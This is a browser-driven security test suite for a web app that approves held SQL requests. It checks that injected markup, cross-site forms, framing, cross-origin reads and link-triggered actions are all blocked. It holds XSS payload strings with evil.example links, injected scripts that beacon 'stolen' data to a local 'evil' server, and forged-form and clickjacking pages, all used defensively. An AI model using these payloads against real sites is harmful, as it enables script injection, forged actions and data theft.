"""attacks.md, section A, in the browser that they are made for: markup, other people's pages, frames, links."""

from __future__ import annotations

import contextlib
import html
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import pytest
from aiohttp import web as http
from playwright.async_api import expect

from tests.web.browsing import Visit, Web, log_in

pytestmark = pytest.mark.asyncio(loop_scope="module")
INERT = (
    "</code></pre></main><script>window.ran = 1</script><img src=x onerror='window.ran = 2'>"
    "<svg onload='window.ran = 3'><a href='javascript:window.ran = 4'>x</a><style>body { display: none }</style>"
    "<form action='/log-out' method=post><base href='https://evil.example/'>"
    "<meta http-equiv=refresh content='0; url=/x'>"
    "{{ 7 * 7 }}${7 * 7}\x1b]8;;https://evil.example\x07"
)


def _hostile(asked: Any) -> None:
    asked.reason = INERT
    asked.sql.relations[0].name = INERT
    asked.sql.relations[0].schema = INERT
    asked.sql.functions.add(schema=INERT, name=INERT, language=INERT, volatility=INERT)
    asked.sql.not_covered.append(INERT)
    asked.sql.opaque_reasons.add(code=INERT, detail=INERT)
    asked.sql.values.bound.add(type_oid=25, value=INERT.encode())
    asked.sql.values.named = INERT.encode()


@pytest.mark.parametrize("scripts", [True, False], ids=["with-scripts", "without-scripts"])
async def test_a25_injected_markup_is_inert_everywhere(web: Web, scripts: bool) -> None:
    """No console line either: the policy of the page has nothing to refuse, since nothing is markup."""
    approval = await web.held(f"DELETE FROM orders WHERE note = '{INERT}' -- {scripts}", change=_hostile)
    async with web.visit("bob", java_script_enabled=scripts) as bob:
        await bob.to(f"/requests/{approval}")
        await expect(bob.page.get_by_role("region", name="The statement", exact=True)).to_contain_text(
            "<script>window.ran = 1"
        )
        await bob.shot("hostile")
        await bob.page.get_by_label("Reason for denying").fill(INERT.replace("\x1b", "").replace("\x07", ""))
        await bob.page.get_by_role("button", name="Deny").click()
        await expect(bob.page.locator("#live-state")).to_contain_text("<svg onload")
        for path in (f"/requests/{approval}", "/", "/history", f"/requests/{approval}?whole"):
            await bob.to(path)
            assert await bob.page.locator("main img, main svg, main style, main script, base, [onerror]").count() == 0
            assert await bob.page.locator("a[href^='javascript']").count() == 0
            if scripts:
                assert await bob.page.evaluate("() => window.ran") is None


async def test_a_policy_that_holds_would_stop_what_slipped_through(web: Web) -> None:
    """What the browser itself does with markup that is put into a page of ours by force."""
    async with evil() as other, web.visit("bob", expect=("Content Security Policy", "elsewhere")) as bob:
        await bob.to("/history")
        await bob.page.evaluate(
            """(elsewhere) => {
                const put = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
                put("script", {textContent: "window.ran = 'inline'"});
                put("script", {src: "data:text/javascript,window.ran='data'"});
                put("img", {src: elsewhere});
                fetch(elsewhere).catch(() => null);
                navigator.sendBeacon(elsewhere, "stolen");
                put("iframe", {src: "/"});
                put("style", {textContent: "body { display: none }"});
                const button = document.createElement("button");
                button.setAttribute("onclick", "window.ran = 'handler'");
                document.body.append(button);
                button.click();
                put("form", {action: elsewhere, method: "post"});
                document.forms[document.forms.length - 1].submit();
            }""",
            other.at("127.0.0.1"),
        )
        await bob.page.wait_for_timeout(300)
        assert await bob.page.evaluate("() => window.ran") is None
        assert await bob.page.locator("body").is_visible()
        assert len([line for line in bob.wrong if "Content Security Policy" in line]) >= 5
        assert other.hits == 0


# A23: other people's pages


@dataclass
class Evil:
    """A page of somebody else's. `page`: its markup. hits: how often it was asked for anything."""

    port: int = 0
    page: str = ""
    hits: int = 0

    def at(self, host: str) -> str:
        return f"http://{host}:{self.port}/"

    async def answer(self, _request: http.Request) -> http.Response:
        self.hits += 1
        return http.Response(text=f"<!doctype html><title>evil</title>{self.page}", content_type="text/html")


@contextlib.asynccontextmanager
async def evil() -> AsyncIterator[Evil]:
    made = Evil()
    app = http.Application()
    app.router.add_route("*", "/{path:.*}", made.answer)
    runner = http.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    try:
        await http.TCPSite(runner, "127.0.0.1", 0).start()
        made.port = runner.addresses[0][1]
        yield made
    finally:
        await runner.cleanup()


ELSEWHERE = pytest.mark.parametrize("host", ["localhost", "127.0.0.1"], ids=["another-site", "another-port"])


@ELSEWHERE
async def test_a23_a_form_of_another_page_gives_no_verdict(web: Web, host: str) -> None:
    """From another site the cookie isn't even sent (SameSite); from another port of this one it is, and is no use,
    also with the very token of the form."""
    approval = await web.held(f"DELETE FROM orders WHERE id = 50 -- {host}")
    async with evil() as other, web.visit("bob", expect=("elsewhere", "403", "401", "CORS", "ERR_")) as bob:
        await bob.to(f"/requests/{approval}")
        token = await bob.page.locator("#live-form input[name=token]").first.input_value()
        sent: list[dict[str, str]] = []
        await _tell_headers(bob, sent)
        other.page = (
            f'<form method="post" action="{bob.origin}/requests/{approval}">'
            f'<input name="token" value="{token}"><input name="verdict" value="approve"><input name="reason" value="">'
            "<button>Win a prize</button></form>"
        )
        await bob.page.goto(other.at(host))
        await bob.page.get_by_role("button", name="Win a prize").click()
        await expect(bob.page.get_by_role("alert")).to_be_visible()
        assert await web.made.state(approval) == "pending"
        assert ("cookie" in sent[-1]) == (host == "127.0.0.1")  # what stops it there is the rest
        for mode in ("no-cors", "cors"):
            await bob.page.goto(other.at(host))
            await bob.page.evaluate(
                """([url, mode, token]) => fetch(url, {method: "POST", mode, credentials: "include",
                    body: new URLSearchParams({token, verdict: "approve", reason: ""})}).catch(() => null)""",
                [f"{bob.origin}/requests/{approval}", mode, token],
            )
            assert await web.made.state(approval) == "pending"


async def _tell_headers(bob: Visit, sent: list[dict[str, str]]) -> None:
    """The headers of every POST, as they went out: what playwright tells of cookies is not what was sent."""
    session = await bob.page.context.new_cdp_session(bob.page)
    await session.send("Network.enable")
    session.on(
        "Network.requestWillBeSentExtraInfo",
        lambda event: (
            sent.append({name.lower(): value for name, value in event["headers"].items()})
            if event["headers"].get(":method", "POST") == "POST" and "origin" in map(str.lower, event["headers"])
            else None
        ),
    )


@ELSEWHERE
async def test_a23_nobody_is_logged_out_or_in_by_another_page(web: Web, host: str) -> None:
    async with evil() as other, web.visit("bob", expect=("elsewhere", "403", "401")) as bob:
        for path in ("/log-out", "/log-in"):
            other.page = f'<form method="post" action="{bob.origin}{path}"><button>Go</button></form>'
            await bob.page.goto(other.at(host))
            await bob.page.get_by_role("button", name="Go").click()
            await expect(bob.page.get_by_role("alert")).to_be_visible()
        await bob.to("/")
        assert await bob.heading() == "Waiting for an answer"


@ELSEWHERE
async def test_a23_no_page_of_ours_is_framed(web: Web, host: str) -> None:
    approval = await web.held(f"DELETE FROM orders WHERE id = 51 -- {host}")
    async with evil() as other, web.visit("bob", expect=("elsewhere", "frame", "Frame")) as bob:
        path = f"{bob.origin}/requests/{approval}"
        other.page = (
            f'<iframe id="one" src="{html.escape(path)}"></iframe><object id="two" data="{path}"></object>'
            f'<embed src="{path}">'
        )
        await bob.page.goto(other.at(host))
        await bob.page.wait_for_timeout(500)
        for frame in bob.page.frames[1:]:
            assert not frame.url.startswith(bob.origin)
            with contextlib.suppress(Exception):
                assert await frame.get_by_role("button").count() == 0
        assert any("frame" in line.lower() for line in bob.wrong)


async def test_a23_another_page_reads_nothing_of_ours_and_holds_no_window_of_it(web: Web) -> None:
    approval = await web.held("DELETE FROM orders WHERE id = 52 -- canary-a23")
    async with evil() as other, web.visit("bob", expect=("elsewhere", "CORS", "ERR_", "Content Security")) as bob:
        await bob.page.goto(other.at("127.0.0.1"))
        read = await bob.page.evaluate(
            """async (url) => {
                const tried = [];
                for (const how of [{}, {mode: "no-cors"}]) {
                    try { tried.push(await (await fetch(url, {credentials: "include", ...how})).text()); }
                    catch (error) { tried.push("refused"); }
                }
                return tried;
            }""",
            f"{bob.origin}/requests/{approval}",
        )
        assert not any("canary" in text for text in read)
        assert read[0] == "refused"
        async with bob.page.context.expect_page() as opened:
            await bob.page.evaluate("(url) => { window.held = window.open(url); }", f"{bob.origin}/requests/{approval}")
        window = await opened.value
        await expect(window.locator("h1")).to_contain_text("Request")
        assert await window.evaluate("() => window.opener") is None  # Cross-Origin-Opener-Policy
        assert await bob.page.evaluate("() => window.held.closed")


# A24: links


async def test_a24_no_link_gives_a_verdict_or_is_fetched_ahead(web: Web) -> None:
    approval = await web.held("DELETE FROM orders WHERE id = 53")
    async with web.visit("bob", expect=("405", "elsewhere", "ERR_")) as bob:
        await bob.to(f"/requests/{approval}")
        token = await bob.page.locator("#live-form input[name=token]").first.input_value()
        for query in (f"verdict=approve&reason=&token={token}", f"verdict=deny&reason=x&token={token}"):
            await bob.to(f"/requests/{approval}?{query}")
            assert await bob.heading() == f"Request {approval}"
        assert (
            await bob.page.locator("link[rel=prefetch], link[rel=prerender], script[type=speculationrules]").count()
            == 0
        )
        async with evil() as other:
            other.page = (
                f'<link rel="prefetch" href="{bob.origin}/requests/{approval}">'
                f'<img src="{bob.origin}/requests/{approval}?verdict=approve&token={token}">'
                f'<a href="{bob.origin}/log-out">x</a>'
            )
            await bob.page.goto(other.at("127.0.0.1"))
            await bob.page.get_by_role("link", name="x").click()
        await bob.to("/")
        assert await bob.heading() == "Waiting for an answer"
    assert await web.made.state(approval) == "pending"


async def test_what_was_read_is_not_there_after_logging_out(web: Web) -> None:
    """Back in the history of a browser that somebody left: no-store keeps no page."""
    approval = await web.held("DELETE FROM orders WHERE id = 54 -- canary-back")
    async with web.visit() as bob:
        await bob.to(f"/requests/{approval}")
        await log_in(bob, "bob")
        await expect(bob.page.get_by_role("region", name="The statement")).to_contain_text("canary-back")
        await bob.page.get_by_role("button", name="Log out").click()
        assert await bob.heading() == "Log in"
        await bob.page.go_back()
        await expect(bob.page.locator("h1")).to_have_text("Log in")
        assert "canary-back" not in await bob.page.content()


async def test_no_script_reads_the_cookie_or_keeps_anything(web: Web) -> None:
    approval = await web.held("DELETE FROM orders WHERE id = 55")
    async with web.visit("bob") as bob:
        await bob.to(f"/requests/{approval}")
        await bob.live()
        kept = await bob.page.evaluate("() => [document.cookie, localStorage.length, sessionStorage.length]")
        assert kept == ["", 0, 0]
